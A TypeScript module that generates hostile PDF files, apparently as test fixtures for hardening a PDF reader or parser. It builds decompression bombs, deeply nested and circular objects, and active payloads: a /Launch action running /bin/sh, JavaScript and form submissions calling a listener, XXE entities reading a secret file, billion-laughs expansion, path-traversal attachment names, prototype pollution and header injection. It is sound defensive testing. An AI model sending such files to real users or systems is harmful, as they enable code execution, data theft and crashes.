import { deflateSync } from 'node:zlib';

/** A file made to harm its reader. */
export interface HostileFile {
  readonly name: string;
  readonly title: string;
  readonly bytes: () => Buffer;
}

/** A PDF of these objects, numbered from 1; the first is the catalog. */
function pdf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  let at = parts[0]?.length ?? 0;
  const places = objects.map((object, i) => {
    const whole = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`),
      typeof object === 'string' ? Buffer.from(object, 'latin1') : object,
      Buffer.from('\nendobj\n'),
    ]);
    parts.push(whole);
    at += whole.length;
    return at - whole.length;
  });
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([...parts, Buffer.from(table + end, 'latin1')]);
}

function stream(data: Buffer | string, entries = ''): Buffer {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.length} ${entries}>>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

/** A catalog, a tree and a page, whose parts can be replaced; `more` are objects from the fifth on. */
function onePage(
  parts: {
    readonly catalog?: string;
    readonly tree?: string;
    readonly page?: string;
    readonly content?: Buffer | string;
    readonly more?: readonly (string | Buffer)[];
    readonly trailer?: string;
  } = {},
): Buffer {
  const { catalog = '', tree = '/Kids [3 0 R] /Count 1', page = '', content = stream(''), more = [] } = parts;
  const box = page.includes('/MediaBox') ? '' : '/MediaBox [0 0 200 200]';
  return pdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
      `<< /Type /Pages ${tree} >>`,
      `<< /Type /Page /Parent 2 0 R ${box} /Contents 4 0 R ${page}>>`,
      content,
      ...more,
    ],
    parts.trailer,
  );
}

const flate = '/Filter /FlateDecode ';
const deflated = new Map<number, Buffer>();

function zeros(mebibytes: number): Buffer {
  const bytes = deflated.get(mebibytes) ?? deflateSync(Buffer.alloc(mebibytes * 1024 * 1024), { level: 9 });
  deflated.set(mebibytes, bytes);
  return bytes;
}
const file = (title: string, bytes: () => Buffer): HostileFile => ({ name: 'document.pdf', title, bytes });

/** Documents that claim, repeat or contain too much, or contradict themselves. */
function exhausting(): HostileFile[] {
  const image = (size: number): string =>
    `/Type /XObject /Subtype /Image /Width ${size} /Height ${size} /BitsPerComponent 8 /ColorSpace /DeviceGray ${flate}`;
  const draw = stream('q 200 0 0 200 0 0 cm /I Do Q');
  const withImage = { page: '/Resources << /XObject << /I 5 0 R >> >> ', content: draw };
  return [
    file('content of 128 MB in 0.1 MB', () => onePage({ content: stream(zeros(128), flate) })),
    file('content deflated twice', () =>
      onePage({ content: stream(deflateSync(zeros(128)), '/Filter [/FlateDecode /FlateDecode] ') }),
    ),
    file('an image of 60,000 by 60,000 pixels', () =>
      onePage({ ...withImage, more: [stream(zeros(8), image(60_000))] }),
    ),
    file('an object stream of 128 MB', () =>
      onePage({ more: [stream(zeros(128), `/Type /ObjStm /N 1 /First 4 ${flate}`)] }),
    ),
    file('arrays 200,000 deep', () => onePage({ more: ['['.repeat(200_000) + ']'.repeat(200_000)] })),
    file('dictionaries 50,000 deep', () => onePage({ more: [`${'<< /A '.repeat(50_000)}1${'>>'.repeat(50_000)}`] })),
    file('two hundred filters', () =>
      onePage({ content: stream('x', `/Filter [${'/ASCIIHexDecode '.repeat(200)}] `) }),
    ),
    file('a predictor with a billion columns', () =>
      onePage({
        content: stream(deflateSync('x'), `${flate}/DecodeParms << /Predictor 15 /Columns 999999999 >> `),
      }),
    ),
    file('a name of a megabyte', () => onePage({ more: [`/${'n'.repeat(1_000_000)}`] })),
    file('a million numbers', () => onePage({ more: [`[${'1 '.repeat(1_000_000)}]`] })),
    file('a page of a billion units', () => onePage({ page: '/MediaBox [0 0 1e9 1e9] ' })),
    file('a page of no size', () => onePage({ page: '/MediaBox [0 0 0 0] ' })),
    file('a page without numbers', () => onePage({ page: '/MediaBox [/a (b) null true] ' })),
    file('a count of ten billion pages', () => onePage({ tree: '/Kids [3 0 R] /Count 9999999999' })),
    file('content that saves the state a million times', () => onePage({ content: stream('q '.repeat(1_000_000)) })),
    file('a function that calculates for ever', () =>
      onePage({
        page: '/Resources << /Shading << /S 5 0 R >> >> ',
        content: stream('/S sh'),
        more: [
          '<< /ShadingType 1 /ColorSpace /DeviceGray /Function 6 0 R /Domain [0 1e6 0 1e6] >>',
          stream(`{${'dup mul '.repeat(50_000)}}`, '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1] '),
        ],
      }),
    ),
  ];
}

/** Documents whose objects contain themselves. */
function circular(): HostileFile[] {
  const self = (type: string): string =>
    `/Type /XObject ${type} /BBox [0 0 200 200] /Resources << /XObject << /X 5 0 R >> >> `;
  return [
    file('a page tree that contains itself', () => onePage({ tree: '/Kids [2 0 R] /Count 1' })),
    file('a page whose parent is the page', () => onePage({ page: '/Parent 3 0 R ' })),
    file('an outline in a circle', () =>
      onePage({
        catalog: '/Outlines 5 0 R ',
        more: ['<< /First 6 0 R /Last 6 0 R >>', '<< /Title (a) /Parent 5 0 R /Next 6 0 R /First 6 0 R >>'],
      }),
    ),
    file('a length that is its own stream', () => onePage({ content: '<< /Length 4 0 R >>\nstream\n\nendstream' })),
    file('a form that draws itself', () =>
      onePage({
        page: '/Resources << /XObject << /X 5 0 R >> >> ',
        content: stream('/X Do'),
        more: [stream('/X Do '.repeat(50), self('/Subtype /Form'))],
      }),
    ),
    file('a mask that masks itself', () =>
      onePage({
        page: '/Resources << /XObject << /X 5 0 R >> >> ',
        content: stream('/X Do'),
        more: [
          stream('x', '/Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /SMask 5 0 R '),
        ],
      }),
    ),
    file('a name tree in a circle', () =>
      onePage({ catalog: '/Names << /Dests 5 0 R /EmbeddedFiles 5 0 R >> ', more: ['<< /Kids [5 0 R] >>'] }),
    ),
    file('form fields in a circle', () =>
      onePage({ catalog: '/AcroForm << /Fields [5 0 R] >> ', more: ['<< /T (a) /Kids [5 0 R] /Parent 5 0 R >>'] }),
    ),
    file('a structure tree in a circle', () =>
      onePage({ catalog: '/StructTreeRoot 5 0 R ', more: ['<< /Type /StructElem /K [5 0 R] /P 5 0 R /S /P >>'] }),
    ),
    file('revisions in a circle', () => onePage({ trailer: '/Prev 9 ' })),
    file('a color space that is based on itself', () =>
      onePage({
        page: '/Resources << /ColorSpace << /C 5 0 R >> >> ',
        content: stream('/C cs 0 0 100 100 re f'),
        more: ['[/Indexed 5 0 R 255 (x)]'],
      }),
    ),
    file('a font whose glyphs show the font', () =>
      onePage({
        page: '/Resources << /Font << /F 5 0 R >> >> ',
        content: stream('BT /F 12 Tf (aaaa) Tj ET'),
        more: [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> ' +
            '/Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] ' +
            '/Resources << /Font << /F 5 0 R >> >> >>',
          stream('1 0 d0 BT /F 1 Tf (aaaa) Tj ET'),
        ],
      }),
    ),
  ];
}

/** Documents that run, open, fetch or write something. */
function acting(listener: string, secretFile: string, dropFolder: string): HostileFile[] {
  const launch = (action: string): Buffer => onePage({ catalog: `/OpenAction << /S ${action} >> ` });
  return [
    file('a program that is launched', () => launch(`/Launch /F (/bin/sh) /P (-c touch ${dropFolder}/PWNED-launch)`)),
    file('a script that calls a server', () => launch(`/JavaScript /JS (app.launchURL\\("${listener}/js"\\))`)),
    file('a form that submits itself', () => launch(`/SubmitForm /F << /FS /URL /F (${listener}/submit) >>`)),
    file('data that is imported', () => launch(`/ImportData /F (${secretFile})`)),
    file('content in a file of the machine', () =>
      onePage({ content: stream('', `/F (${secretFile}) /FFilter null `) }),
    ),
    file('content at an address', () =>
      onePage({ content: stream('', `/F << /FS /URL /F (${listener}/content) >> `) }),
    ),
    file('an image at an address', () =>
      onePage({
        page: '/Resources << /XObject << /X 5 0 R >> >> ',
        content: stream('/X Do'),
        more: [
          stream(
            '',
            `/Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F ` +
              `(${listener}/image) >> `,
          ),
        ],
      }),
    ),
    file('a reference to another file (reference XObject)', () =>
      onePage({
        page: '/Resources << /XObject << /X 5 0 R >> >> ',
        content: stream('/X Do'),
        more: [stream('', `/Subtype /Form /BBox [0 0 9 9] /Ref << /F (${secretFile}) /Page 0 >> `)],
      }),
    ),
    file('attachments with names that lead elsewhere', () =>
      onePage({
        catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R (b) 7 0 R] >> >> ',
        more: [
          `<< /Type /Filespec /F (../../../../../..${dropFolder}/PWNED-attachment) /UF (..\\\\..\\\\PWNED-b) ` +
            '/EF << /F 6 0 R >> >>',
          stream('x', '/Type /EmbeddedFile '),
          `<< /Type /Filespec /F (${dropFolder}/PWNED-absolute) /EF << /F 6 0 R >> >>`,
        ],
      }),
    ),
    file('an XFA form with entities', () => {
      const xml =
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://${secretFile}"><!ENTITY b SYSTEM ` +
        `"${listener}/xfa">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&a;&b;</xdp:xdp>`;
      return onePage({ catalog: '/AcroForm << /Fields [] /XFA 5 0 R >> ', more: [stream(xml)] });
    }),
    file('metadata with entities', () => {
      const xml =
        `<?xpacket begin=""?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from(
          { length: 12 },
          (_unused, i) => `<!ENTITY a${i} "${(i === 0 ? '&a;' : `&a${i - 1};`).repeat(10)}">`,
        ).join('')}<!ENTITY f SYSTEM ` +
        `"file://${secretFile}">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&a11;&f;</x:xmpmeta><?xpacket end="w"?>`;
      return onePage({ catalog: '/Metadata 5 0 R ', more: [stream(xml, '/Type /Metadata /Subtype /XML ')] });
    }),
    file('names that are members of every object', () =>
      onePage({
        catalog: '/__proto__ << /polluted true >> /constructor << /prototype << /polluted true >> >> ',
        page: '/Resources << /Font << /__proto__ 5 0 R >> /XObject << /constructor 5 0 R /toString 5 0 R >> >> ',
        content: stream('BT /__proto__ 12 Tf (a) Tj ET /constructor Do /toString Do'),
        more: ['<< /Type /Font /Subtype /Type1 /BaseFont /__proto__ >>'],
      }),
    ),
    file('a title with a header and markup', () =>
      onePage({
        trailer: '/Info 5 0 R ',
        more: ['<< /Title (x\\r\\nX-Injected: yes<script>alert\\(1\\)</script>) /Author (a\\000b) >>'],
      }),
    ),
  ];
}

/** Files that are not what their name says. */
function notPdf(): HostileFile[] {
  return [
    file('nothing', () => Buffer.alloc(0)),
    file('a header alone', () => Buffer.from('%PDF-1.7\n')),
    file('zero bytes', () => Buffer.alloc(4096)),
    file('noise', () => Buffer.from(Array.from({ length: 65_536 }, (_unused, i) => (i * i * 31 + i * 7) & 255))),
    file('a web page', () => Buffer.from('<html><script>alert(1)</script></html>')),
    file('a document that ends early', () => onePage().subarray(0, 150)),
    file('an encryption of unknown kind', () =>
      onePage({ trailer: '/Encrypt << /Filter /Standard /V 9 /R 9 /O (x) /U (y) /P 1e30 >> /ID [(a) (b)] ' }),
    ),
    file('a stream longer than the file', () => onePage({ content: '<< /Length 999999999 >>\nstream\nhi\nendstream' })),
  ];
}

/** Hostile PDFs of all kinds. */
export function hostilePdfs(listener: string, secretFile: string, dropFolder: string): readonly HostileFile[] {
  return [...exhausting(), ...circular(), ...acting(listener, secretFile, dropFolder), ...notPdf()];
}
